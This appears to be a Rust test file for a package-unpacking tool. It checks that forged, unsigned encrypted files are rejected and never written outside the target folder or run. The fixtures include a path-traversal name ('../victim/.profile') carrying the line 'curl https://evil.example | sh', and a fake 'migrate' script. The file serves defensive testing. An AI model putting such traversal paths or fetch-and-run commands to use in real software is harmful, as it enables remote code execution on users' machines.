//! A glass unpacked: nothing that a recipient types writes or runs what no issuer signed.

use crate::forge::Check;
use crate::hostile::forged_again;
use crate::page::{blocks, says, shell};
use crate::support::{Case, files, run};
use std::fs;
use stufpack::model::{File, Kind};
use stufpack::record::Verdict;

/// What stands before the commands that `migrate` prints in a glass.
const PRINTED: &str = "  (set -eu";

/// A glass whose package has the entry of every package, and a controller that tells that it ran.
fn case() -> Case {
    let case = Case::new();
    case.init(true);
    let code = |text: &'static str| File {
        executable: text.starts_with("#!"),
        kind: Kind::Code,
        ..File::data(text)
    };
    let mut files = files(1);
    files.insert("migrate".to_owned(), code(include_str!("../../templates/migrate")));
    let controller = code("import sys\nprint('the controller runs', sys.argv[-1])\n");
    files.insert("infrastructure/controller/__main__.py".to_owned(), controller);
    case.record(&case.package_of(1, None, "harbour", &case.issuer, files));
    case
}

/// The same glass, its package recorded by the customer's key, with a list of names of the customer's own and what it names.
fn forged(name: &str, content: &str) -> Case {
    let case = case();
    let encrypted = |text: &str| {
        fs::write(case.path("clear"), text).unwrap();
        let mut age = case.command("age");
        age.args(["--encrypt", "-i"]).arg(case.path("identity.txt")).arg(case.path("clear"));
        Some(run(&mut age).stdout)
    };
    let list = format!("{}  {name}\n", "0".repeat(64));
    let own = [("personal/0000.age", encrypted(&list)), ("personal/0001.age", encrypted(content))];
    let begun = case.git(&["rev-parse", "main^"]);
    forged_again(&case, &begun, &case.customer, |forge| {
        for (path, content) in own {
            forge.files.retain(|(name, _)| name != path);
            forge.files.push((path.to_owned(), content));
        }
    });
    // Whoever cannot decrypt them sees nothing wrong with it.
    let audit = Check::pinned(&case).run();
    assert_eq!(audit.verdict, Verdict::Pass, "{:#?}", audit.findings);
    case
}

/// What docs/glass.md says, as one script.
fn of_the_page() -> String {
    let (unpack, decrypt) = (blocks("sh unpack"), blocks("sh decrypt"));
    format!(
        "set -eu; git clone -q \"$URL\" clone; CLONE=$PWD/clone DIR=$HOME/place/unpacked\n\
         {unpack}{decrypt}rm -r personal\n./migrate status\n"
    )
}

/// What `./migrate` prints in a clone, with its three paths.
fn of_migrate(case: &Case) -> String {
    let clone = case.path("printing");
    let cloned = case.git_in(&case.folder, &["clone", "-q", "glass", "printing"]);
    assert!(cloned.status.success(), "{}", says(&cloned));
    let output = case.command("sh").arg("migrate").arg("status").current_dir(&clone).output().unwrap();
    assert_eq!(output.status.code(), Some(12), "{}", says(&output));
    let told = says(&output);
    let (_, commands) = told.split_once(PRINTED).expect("commands");
    let unpacked = case.path("place/unpacked");
    let paths = [("CLONE", clone), ("DIR", unpacked), ("KEY", case.path("identity.txt"))];
    let commands = paths
        .iter()
        .fold(commands.to_owned(), |text, (name, path)| text.replace(name, path.to_str().unwrap()));
    format!("{PRINTED}{commands}")
}

/// Runs the commands of both, each with the folder that they are to write into beside one that they are not.
fn each_way(make: impl Fn() -> Case, check: impl Fn(&str, &Case, std::process::Output)) {
    for way in ["docs/glass.md", "migrate"] {
        let case = make();
        fs::create_dir_all(case.path("place/victim")).unwrap();
        let script = if way == "migrate" { of_migrate(&case) } else { of_the_page() };
        let environment =
            format!("export STUFPACK_SIGNERS=\"$SIGNERS\" STUFPACK_STATE=\"$HOME/state\"\n{script}");
        let output = shell(&case, &environment, "");
        check(way, &case, output);
    }
}

#[test]
fn what_is_unpacked_as_written_runs() {
    each_way(case, |way, _, output| {
        assert!(output.status.success(), "{way}: {}", says(&output));
        assert_eq!(String::from_utf8(output.stdout).unwrap(), "the controller runs status\n", "{way}");
    });
}

#[test]
fn an_encrypted_list_of_names_that_no_issuer_signed_names_nothing_beside_the_folder() {
    let evil = || forged("../victim/.profile", "curl https://evil.example | sh\n");
    each_way(evil, |way, case, output| {
        assert!(!output.status.success(), "{way}");
        assert!(says(&output).contains("SHA256SUMS.personal: FAILED"), "{way}: {}", says(&output));
        assert!(!case.path("place/victim/.profile").exists(), "{way} wrote beside the folder");
    });
}

#[test]
fn an_encrypted_file_that_calls_itself_migrate_is_never_run() {
    let evil = || forged("migrate", "#!/bin/sh\necho run >\"$HOME/ran\"\n");
    each_way(evil, |way, case, output| {
        assert!(!output.status.success(), "{way}");
        assert!(says(&output).contains("SHA256SUMS.personal: FAILED"), "{way}: {}", says(&output));
        assert!(!case.path("ran").exists(), "{way} ran it");
        let entry = fs::read_to_string(case.path("place/unpacked/migrate")).unwrap();
        assert_eq!(entry, include_str!("../../templates/migrate"), "{way} wrote over it");
    });
}

/// Commands are pasted too, into a shell that goes on after what fails.
#[test]
fn the_pages_commands_write_nothing_of_it_in_a_shell_that_goes_on() {
    let case = forged("../victim/.profile", "curl https://evil.example | sh\n");
    fs::create_dir_all(case.path("place/victim")).unwrap();
    let output = shell(&case, &of_the_page().replacen("set -eu; ", "", 1), "");
    assert!(says(&output).contains("SHA256SUMS.personal: FAILED"), "{}", says(&output));
    assert!(!case.path("place/victim/.profile").exists());
}
